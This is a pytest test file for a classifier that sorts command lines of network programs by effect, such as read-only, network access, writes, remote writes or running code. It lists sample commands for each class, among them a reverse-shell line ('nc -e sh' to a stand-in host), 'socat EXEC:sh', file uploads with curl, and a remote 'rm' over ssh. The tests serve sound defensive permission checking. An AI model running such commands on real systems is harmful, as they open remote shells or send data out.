"""net: which command lines of network programs only read, and what the others do."""

from collections.abc import Callable, Mapping

import pytest

from automode.programs.net import PROGRAMS
from automode.programs.use import Effect, Judge, Use
from automode.shell.script import Word

UseOf = Callable[[Mapping[str, Judge], str | tuple[Word, ...]], Use]

READING = r"""
curl --version
curl --help
wget --help
ssh -V
ssh -Q cipher
ping --help
rsync -an --delete src/ dest/
rsync --dry-run -av src/ dest/
rsync --version
""".strip().splitlines()
OTHERWISE = {
    Effect.NETWORK: r"""
curl https://x.test
curl -sSL https://x.test -o /dev/null
wget -qO- https://x.test
ping x.test
dig x.test
host x.test
nc -l 80
telnet x.test
ssh x.test ls
scp a x.test:b
rsync -n src/ x.test:dest/
nmap x.test
whois x.test
http x.test
""".strip().splitlines(),
    Effect.WRITES: r"""
curl -o a https://x.test
curl -O https://x.test/a
curl -sLo a https://x.test
wget https://x.test/a
rsync -a src/ dest/
rsync -n -e sh src/ dest/
rsync -n --log-file=x src/ dest/
rsync -n --rsync-path=x src/ dest/
""".strip().splitlines(),
    Effect.REMOTE_WRITE: r"""
curl -X DELETE https://x.test
curl -d @a https://x.test
curl -F a=@b https://x.test
curl -T a https://x.test
curl --json '{}' https://x.test
wget --post-data=x https://x.test
ssh x.test 'rm x'
scp a x.test:b
""".strip().splitlines(),
    Effect.RUNS: r"""
nc -e sh x.test 1
socat - EXEC:sh
""".strip().splitlines(),
}


@pytest.mark.parametrize("line", READING)
def test_a_form_that_only_prints_reads(line: str, use_of: UseOf) -> None:
    assert use_of(PROGRAMS, line).effect is Effect.NONE


@pytest.mark.parametrize(
    ("effect", "line"), [(effect, line) for effect, lines in OTHERWISE.items() for line in lines]
)
def test_a_form_that_does_more_says_what(effect: Effect, line: str, use_of: UseOf) -> None:
    use = use_of(PROGRAMS, line)
    assert effect in use.effect
    assert use.why
